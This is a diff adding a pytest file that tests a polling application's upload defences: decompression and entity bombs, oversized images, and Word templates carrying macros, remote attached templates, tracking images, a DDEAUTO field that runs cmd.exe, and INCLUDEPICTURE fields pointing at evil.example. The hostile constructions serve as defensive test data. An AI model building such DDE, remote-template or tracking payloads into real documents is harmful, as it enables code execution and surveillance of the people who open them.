@@ -1,0 +1,128 @@
+"""Hostile uploads are refused at once, and cost neither memory nor anybody else's time."""
+
+import io
+from typing import Any
+
+import pytest
+from docx import Document
+from docx.document import Document as WordDocument
+from docx.opc.constants import RELATIONSHIP_TYPE
+from docx.opc.packuri import PackURI
+from docx.opc.part import Part
+from docx.oxml import OxmlElement
+from docx.oxml.ns import qn
+
+from polling.report.formats.word import is_template
+from polling.report.formats.word.template import emptied
+from tests.attacks import files
+from tests.attacks.uploads import LIST, TEMPLATE, Attacker
+from tests.conftest import Served
+from tests.room import Room
+
+ATTACHED = f"{files.OFFICE}/relationships/attachedTemplate"
+
+
+@pytest.fixture(scope="module")
+def attacker(served: Served) -> Attacker:
+    server, app = served
+    made = Attacker(server, Room.of(app))
+    made.upload(*LIST, files.honest_list(10, 5))  # starts the worker process
+    made.upload(*TEMPLATE, saved(Document()))  # loads the libraries that draw a report
+    return made
+
+
+@pytest.mark.parametrize("to", [LIST, TEMPLATE], ids=["list", "template"])
+@pytest.mark.parametrize("bomb", [files.entity_bomb, files.zip_bomb])
+def test_a_bomb_is_refused_and_takes_no_memory(
+    attacker: Attacker, bomb: Any, to: tuple[str, str, str]
+) -> None:
+    cost = attacker.cost(*to, bomb())
+    assert cost.status == 400
+    assert cost.server_growth + cost.worker_growth < 50
+
+
+def test_a_huge_picture_is_no_logo(attacker: Attacker) -> None:
+    cost = attacker.cost("setup/logo", "logo", "logo.png", files.huge_png(65_535, 65_535))
+    assert (cost.status, "pixels" in cost.body) == (400, True)
+
+
+def test_a_small_list_is_still_read_after_the_bombs(attacker: Attacker) -> None:
+    assert attacker.upload(*LIST, files.honest_list(10, 5))[0] == 200
+
+
+# ---- What a Word template can carry ----
+
+
+def saved(word: WordDocument) -> bytes:
+    out = io.BytesIO()
+    word.save(out)
+    return out.getvalue()
+
+
+def with_macros() -> WordDocument:
+    word = Document()
+    kind = "application/vnd.ms-office.vbaProject"
+    macros = Part(PackURI("/word/vbaProject.bin"), kind, b"Sub AutoOpen()", word.part.package)
+    word.part.relate_to(macros, "http://schemas.microsoft.com/office/2006/relationships/vbaProject")
+    return word
+
+
+def with_a_template_elsewhere() -> WordDocument:
+    word = Document()
+    settings = word.part._settings_part
+    key = settings.relate_to("http://evil.example/macros.dotm", ATTACHED, is_external=True)
+    attached = OxmlElement("w:attachedTemplate")
+    attached.set(qn("r:id"), key)
+    settings.element.append(attached)
+    return word
+
+
+@pytest.mark.parametrize("made", [with_macros, with_a_template_elsewhere])
+def test_what_a_template_does_not_need_is_left_out(made: Any) -> None:
+    template = saved(made())
+    assert is_template(template)
+    unpacked = b"".join(files.parts(saved(emptied(template))).values())
+    assert not [word for word in (b"AutoOpen", b"evil.example") if word in unpacked]
+
+
+def with_a_picture_from_elsewhere() -> WordDocument:
+    word = Document()
+    header = word.sections[0].header
+    run = header.paragraphs[0].add_run()
+    key = header.part.relate_to(
+        "http://evil.example/seen.png", RELATIONSHIP_TYPE.IMAGE, is_external=True
+    )
+    blip = OxmlElement("a:blip")
+    blip.set(qn("r:link"), key)
+    run._r.append(blip)
+    return word
+
+
+def with_a_field(code: str) -> WordDocument:
+    word = Document()
+    run = word.sections[0].footer.paragraphs[0].add_run()
+    for part in (code[:4], code[4:]):  # Word joins what is in several elements
+        instruction: Any = OxmlElement("w:instrText")
+        instruction.text = part
+        run._r.append(instruction)
+    return word
+
+
+@pytest.mark.parametrize(
+    "word",
+    [
+        pytest.param(with_a_picture_from_elsewhere(), id="a picture from elsewhere"),
+        pytest.param(with_a_field('DDEAUTO c:\\\\cmd.exe "/k calc"'), id="a command"),
+        pytest.param(with_a_field('INCLUDEPICTURE "http://evil.example/"'), id="an inclusion"),
+    ],
+)
+def test_a_template_that_would_load_something_is_refused(word: WordDocument) -> None:
+    assert not is_template(saved(word))
+
+
+def test_a_template_with_page_numbers_and_a_web_address_is_kept() -> None:
+    word = with_a_field(" PAGE ")
+    word.sections[0].footer.part.relate_to(
+        "https://ok.example", RELATIONSHIP_TYPE.HYPERLINK, is_external=True
+    )
+    assert is_template(saved(word))
